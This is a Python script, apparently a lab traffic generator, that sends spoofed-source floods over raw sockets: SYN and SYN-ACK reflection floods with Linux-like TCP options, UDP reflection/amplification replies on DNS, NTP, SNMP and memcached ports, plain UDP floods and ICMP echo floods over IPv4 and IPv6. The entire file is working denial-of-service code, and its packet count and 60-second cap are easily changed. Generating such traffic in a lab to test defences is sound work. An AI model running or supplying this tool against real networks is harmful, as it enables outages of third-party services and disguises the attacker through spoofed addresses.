#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""lab/rawflood.py: the lab's own raw-socket flood sender, for behaviours
the packaged tools do not make: SYN floods from many spoofed sources with a
Linux-like TCP fingerprint, UDP amplification/reflection replies, and ICMP
echo floods from many spoofed sources, over IPv4 and IPv6.

  python3 lab/rawflood.py syn DST --port P --count N --pps R --spoof CIDR
      [--burst K] [--ttl T] [--win W] [--payload B] [--linux-options]
      [--flags S|SA|SEC] [--from-port F]
  python3 lab/rawflood.py reflect DST --sport S --count N --pps R --spoof CIDR
      [--burst K] [--size A-B] [--ttl T] [--dport P]
  python3 lab/rawflood.py udp DST --count N --pps R --spoof CIDR [--size A-B]
      [--burst K] [--ttl T] [--dport P]
  python3 lab/rawflood.py icmp DST --count N --pps R --spoof CIDR [--size A-B]
      [--burst K] [--ttl T] [--same-id]

Examples:
  python3 lab/rawflood.py syn 10.199.0.10 --port 80 --count 2000 --pps 1000 \
      --spoof 10.128.0.0/11 --linux-options        # a SYN per source, spread
  python3 lab/rawflood.py syn 10.199.0.10 --port 0 --from-port 443 --flags SA \
      --count 2000 --pps 1000 --spoof 10.128.0.0/11  # SYN-ACK reflection
  python3 lab/rawflood.py icmp fd99::10 --count 500 --pps 500 \
      --spoof fd99:15::/48 --burst 20 --dev eth0 --dst-mac 02:00:00:00:00:01
  python3 lab/rawflood.py icmp fd99::10 --count 50 --pps 50 \
      --spoof fd99:15::/32 --write icmp6.pcap      # no root, no network

syn: TCP SYNs to DST:P, each from a random address of --spoof and a random
source port (a new flow each), optionally with MSS, SACK, timestamp and
window-scale options as Linux sends them, and B bytes of payload. --flags
sets the SYN's other flags: SA a SYN-ACK (a SYN-ACK flood; with --from-port
80 or 443 and --port 0, the replies of web servers that a spoofed SYN flood
of the victim's address reached: SYN-ACK reflection), SEC ECN's ECE and
CWR; --from-port F, one source port for every packet (0: a random one
each); --port 0, a random destination port each.
reflect: UDP datagrams from source port S (53 DNS, 123 NTP, 161 SNMP, 1900
SSDP, 11211 memcached, ...) of A..B bytes, to random destination ports (or
port P), as the replies that reflectors send to a spoofed victim.
udp: a plain UDP flood: the same from random source ports (a flow each).
icmp: ICMP echo requests of A..B bytes of data, each from a random address
of --spoof with a random id (a new flow each), or one id for all
(--same-id: one flow per source address); ICMPv6 echo requests for an
IPv6 DST.

--burst K: K packets in a row from each source address drawn (1: every
packet from a new one), each still a new flow (a new port or ICMP id).
IPv4 goes out of a raw socket (the kernel adds the Ethernet header);
IPv6 as whole frames on --dev to --dst-mac (an AF_PACKET socket: the
attacker needs no IPv6 address or route). --write FILE writes the frames
to a capture (pcap, timestamps at --pps from 0) instead.

Bounded: --count packets at --pps packets per second, at most 60 s. Needs
root (a raw socket). Seeded (--seed). Standard library only.
"""
import argparse
import ipaddress
import random
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ip6(src, dst, nh, payload, hlim, flow=0):
    return struct.pack("!IHBB16s16s", 6 << 28 | flow, len(payload), nh, hlim,
                       src.packed, dst.packed) + payload


def ip4(src, dst, proto, payload, ttl, ident):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, 0x4000, ttl, proto, 0,
                    src.packed, dst.packed)
    return h[:10] + struct.pack("!H", csum(h)) + h[12:] + payload


def l4sum(src, dst, proto, seg):
    # IPv6's pseudo header (a 32-bit length, 3 zero bytes, the next header)
    # sums to the same 16-bit words as IPv4's for any segment under 64 KiB
    return csum(src.packed + dst.packed + struct.pack("!xBH", proto, len(seg)) + seg)


def ip_pkt(src, dst, proto, seg, ttl, rng):
    if dst.version == 6:
        return ip6(src, dst, proto, seg, ttl)
    return ip4(src, dst, proto, seg, ttl, rng.getrandbits(16))


def syn(a, rng, src, dst):
    opts = b""
    if a.linux_options:
        # MSS 1460, SACK permitted, timestamps, NOP, window scale 7 (Linux's order)
        opts = (struct.pack("!BBH", 2, 4, 1460) + b"\x04\x02" +
                struct.pack("!BBII", 8, 10, rng.getrandbits(32), 0) + b"\x01" +
                struct.pack("!BBB", 3, 3, 7))
    off = (20 + len(opts)) // 4
    payload = bytes(rng.getrandbits(8) for _ in range(a.payload))
    ack = rng.getrandbits(32) if a.flags & 0x10 else 0
    seg = struct.pack("!HHIIBBHHH", a.from_port or rng.randint(1024, 65535),
                      a.port or rng.randint(1, 65535), rng.getrandbits(32), ack,
                      off << 4, a.flags, a.win, 0, 0) + opts + payload
    seg = seg[:16] + struct.pack("!H", l4sum(src, dst, 6, seg)) + seg[18:]
    return ip_pkt(src, dst, 6, seg, a.ttl, rng)


def reflect(a, rng, src, dst):
    n = rng.randint(*a.size)
    body = bytes(rng.getrandbits(8) for _ in range(n))
    seg = struct.pack("!HHHH", a.sport or rng.randint(1024, 65535), a.dport or rng.randint(1024, 65535), 8 + n, 0) + body
    s = l4sum(src, dst, 17, seg) or 0xFFFF
    seg = seg[:6] + struct.pack("!H", s) + seg[8:]
    return ip_pkt(src, dst, 17, seg, a.ttl, rng)


def icmp(a, rng, src, dst):
    n = rng.randint(*a.size)
    ident = a.icmp_id if a.same_id else rng.getrandbits(16)
    v6 = dst.version == 6
    msg = struct.pack("!BBHHH", 128 if v6 else 8, 0, 0, ident, rng.getrandbits(16)) + \
        bytes(rng.getrandbits(8) for _ in range(n))
    s = l4sum(src, dst, 58, msg) if v6 else csum(msg)  # ICMPv6 sums a pseudo header
    msg = msg[:2] + struct.pack("!H", s) + msg[4:]
    return ip_pkt(src, dst, 58 if v6 else 1, msg, a.ttl, rng)


def paced_send(send, packets, pps, name, limit_s=60):
    """Send each packet of the iterable at `pps`, for at most `limit_s`
    seconds; a full queue is reported and waited out, not fatal. Returns
    the number sent."""
    t0 = time.monotonic()
    n = 0
    for i, pkt in enumerate(packets):
        try:
            send(pkt)
            n += 1
        except OSError as e:  # a full socket buffer or queue: wait, go on
            print(f"{name}: {e}", file=sys.stderr)
            time.sleep(0.01)
        ahead = t0 + (i + 1) / pps - time.monotonic()
        if ahead > 0.001:
            time.sleep(ahead)
        if time.monotonic() - t0 > limit_s:
            break
    return n


def write_pcap(path, frames, pps):
    """Whole frames into a pcap, the i-th at i / pps seconds; their number."""
    n = 0
    with open(path, "wb") as f:
        f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
        for i, fr in enumerate(frames):
            us = i * 1_000_000 // pps
            f.write(struct.pack("<IIII", us // 1_000_000, us % 1_000_000, len(fr), len(fr)) + fr)
            n += 1
    return n


def eth_header(dst_mac, src_mac, version):
    return bytes.fromhex(dst_mac.replace(":", "")) + src_mac + \
        struct.pack("!H", 0x86DD if version == 6 else 0x0800)


def sources(net, rng, burst):
    """Random host addresses of net (not its network or broadcast address),
    drawn without listing them (a /11 has two million), each for `burst`
    packets in a row."""
    first, n = int(net.network_address), net.num_addresses
    if n > 2:
        first, n = first + 1, n - 2
    while True:
        a = type(net.network_address)(first + rng.randrange(n))
        for _ in range(burst):
            yield a


# --flags: the letters of the TCP flags a syn packet carries (SYN always)
TCP_FLAGS = {"S": 0x02, "A": 0x10, "E": 0x40, "C": 0x80}


def tcp_flags(text):
    if "S" not in text or set(text) - set(TCP_FLAGS):
        raise argparse.ArgumentTypeError(f"'{text}': letters of {''.join(TCP_FLAGS)}, S among them")
    return sum(TCP_FLAGS[c] for c in set(text))


def span(text):
    lo, _, hi = text.partition("-")
    return int(lo), int(hi or lo)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                 epilog=__doc__.split("\n\n", 1)[1],
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("mode", choices=["syn", "reflect", "udp", "icmp"])
    ap.add_argument("dst")
    ap.add_argument("--count", type=int, required=True)
    ap.add_argument("--pps", type=int, required=True)
    ap.add_argument("--spoof", required=True,
                    help="source prefix, every packet from a random address of it (one address: a /32)")
    ap.add_argument("--port", type=int, default=80, help="syn: 0 for random")
    ap.add_argument("--from-port", type=int, default=0,
                    help="syn: one source port for every packet (default 0: random)")
    ap.add_argument("--flags", type=tcp_flags, default=0x02,
                    help="syn: S (default), SA (SYN-ACK), SEC (SYN with ECE and CWR), ...")
    ap.add_argument("--sport", type=int, default=53)
    ap.add_argument("--dport", type=int, default=0, help="reflect: 0 for random")
    ap.add_argument("--same-id", action="store_true", help="icmp: one id for every packet")
    ap.add_argument("--ttl", type=int, default=64)
    ap.add_argument("--win", type=int, default=64240)
    ap.add_argument("--payload", type=int, default=0)
    ap.add_argument("--size", type=span, default=(400, 1400))
    ap.add_argument("--linux-options", action="store_true")
    ap.add_argument("--burst", type=int, default=1,
                    help="packets in a row from each source address drawn (default 1)")
    ap.add_argument("--dev", default="eth0", help="IPv6: the interface to send on (eth0)")
    ap.add_argument("--dst-mac", default="02:00:00:00:00:01",
                    help="IPv6 (and --write): the receiver's MAC address")
    ap.add_argument("--write", metavar="FILE", help="write a pcap instead of sending")
    ap.add_argument("--seed", type=int, default=1)
    a = ap.parse_args()
    rng = random.Random(a.seed)
    try:
        dst = ipaddress.ip_address(a.dst)
        net = ipaddress.ip_network(a.spoof, strict=False)
    except ValueError as e:
        ap.error(str(e))
    if net.version != dst.version:
        ap.error("--spoof and DST are of different IP versions")
    if a.burst < 1 or a.count < 1 or a.pps < 1:
        ap.error("--burst, --count and --pps must be at least 1")
    a.icmp_id = rng.getrandbits(16)
    if a.mode == "udp":
        a.sport = 0  # random per packet
    make = {"syn": syn, "reflect": reflect, "udp": reflect, "icmp": icmp}[a.mode]
    src = sources(net, rng, a.burst)
    packets = (make(a, rng, next(src), dst) for _ in range(a.count))
    if a.write:
        eth = eth_header(a.dst_mac, bytes.fromhex("020000000002"), dst.version)
        n = write_pcap(a.write, (eth + p for p in packets), a.pps)
        print(f"rawflood: {a.mode}: {n} packets to {a.write}", file=sys.stderr)
        return 0
    if dst.version == 6:
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        s.bind((a.dev, 0))
        eth = eth_header(a.dst_mac, s.getsockname()[4][:6], 6)
        paced_send(lambda pkt: s.send(eth + pkt), packets, a.pps, "rawflood")
        return 0
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    paced_send(lambda pkt: s.sendto(pkt, (a.dst, 0)), packets, a.pps, "rawflood")
    return 0


if __name__ == "__main__":
    sys.exit(main())
